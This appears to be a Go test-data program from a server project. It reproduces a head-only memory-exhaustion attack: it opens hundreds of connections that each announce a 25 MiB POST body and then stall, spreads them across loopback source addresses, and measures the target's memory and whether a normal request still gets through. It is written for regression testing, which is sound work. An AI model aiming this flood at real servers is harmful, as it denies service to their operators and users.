// Command flood reproduces the head-only memory attack against a running
// server: it opens -n connections that each send only a head announcing a
// 25 MiB body, holds them, prints the target's VmRSS (-pid) before and
// during, tries a normal request from 127.0.0.2, and tallies what the
// flood connections got. Run: go run ./capture/testdata/flood -addr A -pid P.
package main

import (
	"bufio"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"strings"
	"time"
)

// rss prints pid's current and peak resident set size.
func rss(pid string) {
	b, _ := os.ReadFile("/proc/" + pid + "/status")
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(l, "VmRSS") || strings.HasPrefix(l, "VmHWM") {
			fmt.Print(l, "  ")
		}
	}
}

func main() {
	addr := flag.String("addr", "127.0.0.1:4665", "server to flood")
	path := flag.String("path", "/", "request path (for the relay: /{channel}/…)")
	n := flag.Int("n", 300, "connections to open")
	pid := flag.String("pid", "", "server process id, for its VmRSS")
	hold := flag.Duration("hold", 5*time.Second, "how long to hold the connections before measuring")
	spread := flag.Int("spread", 1, "source addresses 127.0.0.10, .11, ... (1: the default source)")
	flag.Parse()
	fmt.Print("before: ")
	rss(*pid)
	fmt.Println()
	var conns []net.Conn
	statuses := map[string]int{}
	for i := 0; i < *n; i++ {
		d := net.Dialer{}
		if *spread > 1 {
			d.LocalAddr = &net.TCPAddr{IP: net.IPv4(127, 0, 0, byte(10+i%*spread))}
		}
		c, err := d.Dial("tcp", *addr)
		if err != nil {
			statuses["dial error"]++
			continue
		}
		fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 26214400\r\n\r\n", *path)
		conns = append(conns, c)
	}
	time.Sleep(*hold)
	fmt.Print("during: ")
	rss(*pid)
	fmt.Println()
	// A normal request from another loopback address.
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.2")}}
	cl := http.Client{Transport: &http.Transport{DialContext: d.DialContext}, Timeout: 10 * time.Second}
	resp, err := cl.Post("http://"+*addr+*path, "application/json", strings.NewReader(`{"ok":1}`))
	if err != nil {
		fmt.Println("normal request (127.0.0.2):", err)
	} else {
		fmt.Println("normal request (127.0.0.2):", resp.Status)
		resp.Body.Close()
	}
	for _, c := range conns {
		c.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
		line, err := bufio.NewReader(c).ReadString('\n')
		if ne, ok := err.(net.Error); ok && ne.Timeout() {
			statuses["held, no answer yet"]++
		} else if err != nil {
			statuses["closed: "+err.Error()]++
		} else {
			statuses[strings.TrimSpace(line)]++
		}
	}
	fmt.Println("flood connections:", statuses)
}
